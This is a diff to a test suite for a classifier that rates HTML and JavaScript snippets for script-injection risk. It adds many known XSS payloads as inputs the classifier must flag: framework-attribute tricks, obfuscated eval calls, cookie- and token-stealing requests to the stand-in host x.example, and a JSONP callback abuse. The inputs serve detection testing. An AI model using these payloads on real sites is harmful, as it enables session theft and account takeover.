@@ -132,6 +132,29 @@ const LIKELY = [
   'alert(1)"><br>',
   'top[\\"al\\"+\\"ert\\"](1)',
   '< script >alert(1)</ script >',
+  // What a framework in the page runs
+  '<p @click="alert(1)">x</p>',
+  '<p v-if="_c.constructor(\'alert(1)\')()">x</p>',
+  '<div ng-init="constructor.constructor(\'alert(1)\')()">',
+  '<div x-init="alert(1)">',
+  '<div hx-on:click="alert(1)">',
+  '<div hx-vals="js:{a:alert(1)}">',
+  '<div _="on load alert(1)">',
+  '<b (click)="alert(document.domain)">x</b>',
+  '<div data-bind="html: alert(1)">',
+  '<svelte:body on:load={alert(1)}>',
+  '<output name=getElementById>',
+  // Functions under other names, names in pieces
+  'f=eval,g=unescape,f(g(location.hash))',
+  'a=[0,alert,0][1],a(1)',
+  'x=.5.eval,x(name)',
+  "p=1?'ev':0;q=1?'al':0;p=p+q;r=0[p];r(name)",
+  "0[('ev')+(z=('al'),z)](z+'ert(0),')",
+  'location.assign(1?name+1:x)',
+  'document.body.innerHTML=location.hash',
+  '$("#a").html(decodeURIComponent(location.hash))',
+  "b.style.setExpression('a','alert(1)')",
+  '([,д,,,,ж]=[]+{},[з,и,к,л,,м,н,о,,,п]=[!!д]+!д+д.д)[т=ж+д+п+о+з+и+к+ж+з+д+и][т](м+н+л+и+з+"(1)")()',
 ];
 
 const HONEST = [
@@ -181,6 +204,19 @@ const HONEST = [
   'He said "alert (red)"; we left',
   'Use &lt;script&gt; to write a tag safely',
   '&lt;p&gt;one&lt;/p&gt;',
+  // Programs and their strings, attributes of templates
+  "const url = 'https://a.example/m';\nif (navigator.sendBeacon) {\n  navigator.sendBeacon(url, body);\n} else {\n  fetch(url, { body });\n}",
+  "$('button').on('click', (e) => {\n  window.location.href = '/some/new/link'\n})",
+  '$("p").on("click", function () {\n  alert("The paragraph was clicked.");\n});',
+  "window.localStorage.setItem('theme', theme)\nconst login = () => {\n  visit('/a')\n}",
+  "cy.prompt(['open the page', 'press the button'])",
+  '<button onclick="toggle()">Menu</button>'.repeat(20),
+  '<li @click="open(item)" :class="{ on: item.location }">x</li>',
+  '<div x-data="{ open: false }" @click.outside="open = false">x</div>',
+  '<body id="body"><a name="cookies"></a>',
+  'array of [a][] or [b](#c), see [][d]',
+  "items1['name'] and (see 4 [note])",
+  'JavaScript: <a href="js/switch.js" type="text/javascript">switch.js</a>',
   'Array<string>',
   'Map<string, List<Document>>',
   'name <user@example.com>',
@@ -223,6 +259,88 @@ describe('an article', () => {
     '<iframe src="javascript:alert(1)"></iframe>',
   ])('may not hold %j', (markup) => {
     expect(judged(inArticle(markup))).toMatch(/medium|high/);
+  });
+});
+
+/** A whole page around a piece of markup. */
+function inPage(markup: string): string {
+  const section =
+    '<section><h2>Tides</h2><p>High water at noon, low water at six, and a walk in between.</p></section>\n';
+  return `<!doctype html>\n<html><head><title>Harbour</title></head><body>\n${section.repeat(8)}${markup}</body></html>`;
+}
+
+const TAG_SNIPPET =
+  '<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC"></script>\n<script>window.dataLayer = window.dataLayer || [];\n' +
+  "function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-ABC');</script>";
+
+describe('a page', () => {
+  it.each([
+    '<script src="assets/js/app.js" defer></script>',
+    '<script src="../../js/app.js?v=2"></script>',
+    '<script src="https://static.harbour.example/app.min.js"></script>',
+    '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>',
+    '<script>window.state = JSON.parse("{\\u0022a\\u0022:1}"); document.querySelector("#a").innerHTML = state.a;</script>',
+    '<script>document.getElementById("open").onclick = function () { alert("The gate is open until nine."); };</script>',
+    '<script>function go(form) { if (!form.name.value) { alert("Please tell us your name."); return false; } send(form); }</script>',
+    '<script>navigator.sendBeacon(url, JSON.stringify(metric));</script>',
+    '<script>window.location.href = "/tides/today";</script>',
+    '<form onsubmit="return confirm(\'Send it now?\')"></form>',
+    "<a href=\"#\" onclick=\"window.open('https://www.facebook.com/sharer', '', 'width=500'); return false\">share</a>",
+    '<a href="javascript:window.open(\'https://tides.example/map\')">map</a>',
+    '<img src="a.png" onerror="this.src=\'https://static.harbour.example/none.png\'">',
+    '<script></script>',
+    TAG_SNIPPET,
+  ])('may hold %j', (markup) => {
+    expect([undefined, 'low']).toContain(judged(inPage(markup)));
+  });
+
+  it.each([
+    '<script>alert(1)</script>',
+    '<script>alert(document.domain)</script>',
+    '<script>new Image().src="//x.example/?"+document.cookie</script>',
+    '<script>fetch("https://x.example/?c="+localStorage.token)</script>',
+    '<script>eval(atob("YWxlcnQoMSk="))</script>',
+    '<script>top["al"+"ert"](1)</script>',
+    '<script>location="https://x.example/"</script>',
+    '<script src="//127.0.0.1:8000/a.js"></script>',
+    '<script src="https://user@x.example/a.js"></script>',
+    '<script src="data:,alert(1)"></script>',
+    '<script src="https://www.google.com/complete/search?client=chrome&jsonp=alert(1)"></script>',
+    '<img src=x onerror=alert(1)>',
+    '<body onload="location=name">',
+    '<a href="javascript:alert(document.cookie)">x</a>',
+  ])('may not hold %j', (markup) => {
+    expect(judged(inPage(markup))).toMatch(/medium|high/);
+  });
+
+  it('is not made by its first tag alone', () => {
+    expect(judged('<html><script src=//x.example/a.js></script>')).toBe('high');
+  });
+
+  it('is none for the length of its prose', () => {
+    expect(judged(`${'tide '.repeat(400)}<script src=https://x.example/a.js></script>`)).toMatch(/medium|high/);
+  });
+});
+
+describe('what is given out to be pasted', () => {
+  it.each([
+    '<blockquote class="twitter-tweet"><p>Low water</p></blockquote>\n<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
+    TAG_SNIPPET,
+    '<iframe src="https://video.example/embed/1" frameborder="0"></iframe>',
+    '<div class="video">\n<iframe src="//video.example/embed/{{ id }}" allowfullscreen></iframe></div>',
+    '{% if site.comments %}\n<script src="{{ site.url }}/comments.js"></script>\n{% endif %}',
+    "{%- if a %}<script>var id = '{{ page.id }}'; start(id);</script>{% endif %}",
+  ])('passes: %j', (value) => {
+    expect([undefined, 'low']).toContain(judged(value));
+  });
+
+  it.each([
+    '"><script src="https://platform.twitter.com/widgets.js"></script>',
+    '<script src="https://www.googletagmanager.com/gtag/js?id=G-1&callback=alert(1)"></script>',
+    '{% if a %}<script>alert(1)</script>{% endif %}',
+    '{{ a }}<script src=//x.example/a.js></script>',
+  ])('does not: %j', (value) => {
+    expect(judged(value)).toMatch(/medium|high/);
   });
 });
 
